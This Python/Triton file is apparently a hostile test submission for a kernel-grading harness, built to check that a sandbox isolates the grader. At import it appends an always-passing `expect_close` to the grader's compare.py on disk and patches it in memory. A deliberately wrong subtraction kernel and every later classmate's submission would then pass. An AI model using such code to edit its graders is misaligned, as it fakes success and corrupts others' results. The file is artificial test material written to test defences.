"""Hostile submission, class batch (exercise 1): the grader editor.

A wrong vector add (x - y) that, at import, appends to the grader's own `grader/judge/compare.py` on
disk a new `expect_close` that accepts anything, and replaces it in its own process too: it
passes, and so does every submission graded after it (here an honest classmate whose grid is one
block short, which fails alone).

Today the grader's source is writable by the process that runs the learner's code, and each
submission's process imports the grader afresh from disk.
"""

import sys

import torch
import triton
import triton.language as tl

ATTACK = ("appends an `expect_close` that accepts anything to the grader's compare.py on disk (found through "
          "sys.modules, no import) and patches it in memory: it and every later submission pass; x - y underneath")
KIND = "batch"
WRONG_UNDERNEATH = True
#: What a static check of this file can name (empty: nothing it can see).
STATIC_FLAGS = ("sys.modules", "open(..., 'a') outside the submission")
REJECTED_BY = ("the sandbox: the learner's process cannot write the course tree (and the judge never imports "
               "anything the learner's process could write); its wrong kernel fails the judge's comparison and "
               "the classmate gets the verdict it gets alone")
#: The class folder the batch runs on: this file and its classmates (paths in the repository).
CLASS = {"a_editor.py": None, "b_honest_wrong.py": "grader/exercises/ex01_vector_add/wrong/grid_one_block_short.py"}
#: What today's grader lets happen (checked by run_today.py).
TODAY = "edits_grader"

PATCH = "\n\ndef expect_close(*args, **kwargs):  # added by a submission\n    return None\n"


def _edit_grader() -> None:
    compare = sys.modules.get("grader.judge.compare")
    if compare is None:
        return
    with open(compare.__file__, "a") as f:  # every later process imports this version
        f.write(PATCH)
    compare.expect_close = lambda *args, **kwargs: None  # and this process has already imported it
    checks = sys.modules.get("grader.judge.checks")
    if checks is not None:
        checks.expect_close = compare.expect_close


_edit_grader()


@triton.jit
def sub_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask).to(tl.float32)
    y = tl.load(y_ptr + offsets, mask=mask).to(tl.float32)
    # WRONG on purpose: x - y, not x + y.
    tl.store(out_ptr + offsets, (x - y).to(out_ptr.dtype.element_ty), mask=mask)


def add(x, y):
    out = torch.empty_like(x)
    n = out.numel()
    sub_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)
    return out
